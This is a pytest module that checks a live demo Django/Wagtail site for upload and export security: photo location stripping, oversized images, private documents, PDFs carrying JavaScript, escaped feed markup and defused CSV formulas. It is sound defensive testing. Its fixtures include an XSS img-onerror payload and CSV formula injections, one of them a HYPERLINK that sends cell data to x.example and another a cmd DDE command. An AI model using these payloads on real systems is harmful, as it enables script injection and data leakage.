"""Uploads attacked on the real production server (issue 18, items 4, 8 and 13).

One throw-away demo site (`manage.py serve`, granian, production settings) for the
module. An editor signs in through the real door (password, then a TOTP code) and
uploads what an attacker or a careless editor would; a stranger (a session with no
cookie) then asks for what the issue found public: the original of a geotagged photo,
its renditions, a private document's file, a PDF with JavaScript, a 121-megapixel PNG,
feeds with markup in a summary, the signature CSV with formulas in it.
"""

import csv
import io
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest
import requests
from PIL import Image

from vigil.testing.forms import form_inputs
from vigil.testing.live_site import HTTP_TIMEOUT, LiveSite
from vigil.testing.mail import Mailbox, smtp_server
from vigil.testing.payloads import (
    CAMERA,
    geotagged_jpeg,
    has_location,
    huge_png,
    pdf_with,
    totp_code,
)

EDITOR = "uploader"
PASSWORD = "correct horse battery staple 18"
TOTP_KEY = "3132333435363738393031323334353637383930"


@pytest.fixture(scope="module")
def site(site_template, tmp_path_factory):  # noqa: F811
    with smtp_server(Mailbox()) as smtp_port:
        served = LiveSite(site_template, tmp_path_factory.mktemp("uploads"), smtp_port=smtp_port)
        served.manage(
            "shell",
            "-c",
            "from django.contrib.auth import get_user_model\n"
            "from django_otp.plugins.otp_totp.models import TOTPDevice\n"
            f"user = get_user_model().objects.create_superuser({EDITOR!r}, 'u@example.org', "
            f"{PASSWORD!r})\n"
            f"TOTPDevice.objects.create(user=user, name='phone', confirmed=True, key={TOTP_KEY!r})",
        )
        served.start()
        try:
            yield served
        finally:
            served.stop()


def _csrf_post(session, url: str, form_path: str, data: dict, files=None, page_url=None):
    page = session.get(page_url or url, timeout=HTTP_TIMEOUT)
    assert page.status_code == 200, (page.status_code, page.url)
    inputs = form_inputs(page.text, form_path) or {}
    token = inputs.get("csrfmiddlewaretoken") or session.cookies.get("csrftoken")
    return session.post(
        url,
        data={**inputs, "csrfmiddlewaretoken": token, **data},
        files=files,
        headers={"Referer": page.url},
        timeout=HTTP_TIMEOUT,
    )


@pytest.fixture(scope="module")
def editor(site):
    """An editor's browser session, past the password and the second factor."""
    session = requests.Session()
    login = site.url + "/admin/login/"
    answer = _csrf_post(session, login, "/admin/login/", {"username": EDITOR, "password": PASSWORD})
    assert "/admin/two-factor/verify/" in answer.url, answer.url
    verify = site.url + "/admin/two-factor/verify/"
    answer = _csrf_post(session, verify, "/admin/two-factor/verify/", {"code": totp_code(TOTP_KEY)})
    assert answer.status_code == 200 and "/admin/two-factor/" not in answer.url, answer.url
    return session


def stranger_get(site, path: str) -> requests.Response:
    return requests.get(site.url + path, timeout=HTTP_TIMEOUT, allow_redirects=False)


def _collection_root(html: str) -> dict:
    """The root collection, when the form offers a choice (there is more than one)."""
    option = re.search(r'<select name="collection"[^>]*>\s*<option value="(\d+)"', html)
    return {"collection": option.group(1)} if option else {}


def image_upload(site, editor, name: str, content: bytes) -> requests.Response:
    add = site.url + "/admin/images/add/"
    page = editor.get(add, timeout=HTTP_TIMEOUT)
    return _csrf_post(
        editor,
        add,
        "/admin/images/add/",
        {"title": name, **_collection_root(page.text)},
        files={"file": (name, content, "application/octet-stream")},
    )


def no_location(data: bytes) -> None:
    assert not has_location(data)
    assert CAMERA.encode() not in data


# -- item 4: photo location ------------------------------------------------------------


def test_a_geotagged_photo_is_published_without_location_and_its_original_is_not_served(
    site, editor
):
    answer = image_upload(site, editor, "kitchen.jpg", geotagged_jpeg())
    assert answer.status_code == 200 and not answer.url.endswith("/add/"), answer.url
    image_id, original = site.query(
        "SELECT id, file FROM images_campaignimage WHERE title = 'kitchen.jpg'"
    )[0]
    stored = (site.dir / "media" / original).read_bytes()
    no_location(stored)
    # The orientation is in the pixels now: upright without any EXIF.
    assert Image.open(io.BytesIO(stored)).size == (200, 320)

    # The editor's edit page makes the preview rendition a page would use.
    assert editor.get(f"{site.url}/admin/images/{image_id}/", timeout=HTTP_TIMEOUT).ok
    renditions = site.query(
        "SELECT file FROM images_campaignrendition WHERE image_id = ?", (image_id,)
    )
    assert renditions
    for (rendition,) in renditions:
        public = stranger_get(site, "/media/" + rendition)
        assert public.status_code == 200
        no_location(public.content)
    # The original's address (the rendition's name gives it away) answers nothing.
    assert stranger_get(site, "/media/" + original).status_code == 404
    assert stranger_get(site, "/media/original_images/").status_code == 404
    assert stranger_get(site, "/media/%2e%2e/media/" + original).status_code == 404


# -- item 13: pixels ---------------------------------------------------------------------


def _peak_rss_kb(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1))


def test_a_121_megapixel_png_is_refused_from_its_header_without_the_worker_decoding_it(
    site, editor
):
    (worker,) = site.worker_pids()
    before = _peak_rss_kb(worker)
    answer = image_upload(site, editor, "poster.png", huge_png())
    assert answer.status_code == 200 and "/admin/images/add/" in answer.url
    assert "pictures of up to 40 megapixels" in answer.text
    assert not site.query("SELECT id FROM images_campaignimage WHERE title = 'poster.png'")
    # Decoding it took the worker from 170 to 511 MB; reading the header takes nothing.
    assert _peak_rss_kb(worker) - before < 60_000


# -- item 8 and 13: documents ------------------------------------------------------------


def test_a_private_documents_file_is_not_served_and_public_ones_only_by_their_view(site):
    site.manage(
        "shell",
        "-c",
        "from django.core.files.base import ContentFile\n"
        "from wagtail.models import Collection, CollectionViewRestriction\n"
        "from vigil.library.models import LibraryDocument\n"
        "from vigil.library.tests.factories import pdf_bytes\n"
        "private = Collection.get_first_root_node().add_child(name='Lawyers only')\n"
        "CollectionViewRestriction.objects.create(collection=private, "
        "restriction_type=CollectionViewRestriction.LOGIN)\n"
        "document = LibraryDocument(title='Defence strategy', collection=private)\n"
        "document.file.save('defence-strategy.pdf', ContentFile(pdf_bytes()), save=False)\n"
        "document.save()\n"
        "public = LibraryDocument(title='Opinion', collection=Collection.get_first_root_node())\n"
        "public.file.save('opinion.pdf', ContentFile(pdf_bytes()), save=False)\n"
        "public.save()",
    )
    private_id, private_file = site.query(
        "SELECT id, file FROM library_librarydocument WHERE title = 'Defence strategy'"
    )[0]
    assert stranger_get(site, "/media/" + private_file).status_code == 404
    served = stranger_get(site, f"/documents/{private_id}/{Path(private_file).name}")
    assert served.status_code == 302 and "/login/" in served.headers["Location"]

    public_id, public_file = site.query(
        "SELECT id, file FROM library_librarydocument WHERE title = 'Opinion'"
    )[0]
    assert stranger_get(site, "/media/" + public_file).status_code == 404
    public = stranger_get(site, f"/documents/{public_id}/{Path(public_file).name}")
    assert public.status_code == 200, (public_id, public_file) and public.content.startswith(
        b"%PDF-"
    )


def test_a_pdf_that_runs_javascript_when_opened_is_refused_with_a_message(site, editor):
    add = site.url + "/admin/documents/add/"
    page = editor.get(add, timeout=HTTP_TIMEOUT)
    answer = _csrf_post(
        editor,
        add,
        "/admin/documents/add/",
        {"title": "Court ruling", **_collection_root(page.text)},
        files={"file": ("ruling.pdf", pdf_with(open_action="/JavaScript"), "application/pdf")},
    )
    assert answer.status_code == 200 and "/admin/documents/add/" in answer.url
    assert "contains active content (JavaScript)" in answer.text
    assert not site.query("SELECT id FROM library_librarydocument WHERE title = 'Court ruling'")
    assert not list((site.dir / "media" / "documents").glob("ruling*"))


# -- item 13: feeds and the signature CSV -------------------------------------------------


def test_markup_in_an_update_summary_stays_text_in_the_feeds(site):
    summary = 'Hearing moved <img src="https://x.example/t.gif" onerror="alert(1)">'
    site.query(
        "UPDATE news_updatepage SET summary = ? WHERE page_ptr_id = "
        "(SELECT page_ptr_id FROM news_updatepage ORDER BY date DESC LIMIT 1)",
        (summary,),
    )
    site.manage("clear_page_cache")
    for path, tag in (("/updates/feed/rss/", "description"), ("/updates/feed/atom/", "summary")):
        feed = stranger_get(site, path)
        assert feed.status_code == 200
        texts = [
            element.text or ""
            for element in ElementTree.fromstring(feed.content).iter()
            if element.tag.rsplit("}", 1)[-1] == tag
        ]
        # The feed reader reads this as HTML: it must show the tag, not load the image.
        assert any("Hearing moved &lt;img src=" in text for text in texts), (path, texts[:3])
        assert not any("<img" in text for text in texts)


def _sign(site, *, name: str, address: str, comment: str) -> None:
    session = requests.Session()
    page = session.get(site.url + "/petition/", timeout=HTTP_TIMEOUT)
    inputs = form_inputs(page.text, "/petition/sign/")
    data = {**inputs, "website": "", "name": name, "email": address, "country": "KZ"}
    data["comment"] = comment
    answer = session.post(
        site.url + "/petition/sign/",
        data=data,
        headers={"Referer": site.url + "/petition/"},
        timeout=HTTP_TIMEOUT,
        allow_redirects=False,
    )
    assert answer.status_code == 303, answer.text[:500]


def test_formulas_signed_into_the_petition_are_defused_in_the_editors_csv(site, editor):
    signers = {
        "=1+2@example.org": '=HYPERLINK("https://x.example/?"&A1,"Open")',
        "-3+4@example.org": "@SUM(1+1)",
        "+5@example.org": " =cmd|' /C calc'!A0",
    }
    for address, name in signers.items():
        # A full-width equals sign is read as a formula by some spreadsheets too.
        _sign(site, name=name, address=address, comment="\uff1dWEBSERVICE(A2)")
    (petition,) = site.query(
        "SELECT DISTINCT petition_id FROM actions_signature WHERE email LIKE '%@example.org'"
    )[0]
    export = editor.get(
        f"{site.url}/admin/actions/petitions/{petition}/signatures.csv", timeout=HTTP_TIMEOUT
    )
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    ours = [row for row in rows if row[1].lstrip("'") in signers]
    assert len(ours) == len(signers)
    for row in ours:
        assert row[0].startswith("'") and row[1].startswith("'"), row
        assert row[3] == "'\uff1dWEBSERVICE(A2)", row
        # The form trims the name; the address and name are kept, only defused.
        assert row[1][1:] in signers and row[0][1:] == signers[row[1][1:]].strip()
